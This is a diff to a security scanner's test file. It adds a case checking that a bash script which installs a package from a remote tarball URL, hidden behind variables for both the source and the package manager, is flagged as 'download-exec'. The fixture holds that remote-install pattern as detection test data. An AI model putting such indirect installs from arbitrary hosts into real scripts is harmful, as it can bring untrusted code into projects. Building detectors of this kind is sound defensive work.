@@ -617,3 +617,20 @@ test('a dev server serving the whole file system to the network; a rules file th
   );
   quiet({ 'SKILL.md': demoSkill(['- Never run commands on the deny list; ask before anything outside the allow list.']) }, 'prompt-injection');
 });
+
+test('download-exec: a package named at an address a variable holds, installed through a variable that holds the package manager', () => {
+  const sh = (src: string) =>
+    [
+      '#!/usr/bin/env bash',
+      'if [[ -f pnpm-lock.yaml ]]; then',
+      '  PM="pnpm add -D"',
+      'else',
+      '  PM="npm install --save-dev"',
+      'fi',
+      `PLUGIN_SRC="${src}"`,
+      '$PM "@vitejs/plugin-legacy@${PLUGIN_SRC}" terser',
+      '',
+    ].join('\n');
+  has({ 'scripts/add.sh': sh('https://pkgs.vite-legacy-builds.invalid/plugin-legacy-5.4.2.tgz') }, 'error sentinel/download-exec scripts/add.sh:8');
+  quiet({ 'scripts/add.sh': sh('^5.4.2') }, 'download-exec');
+});
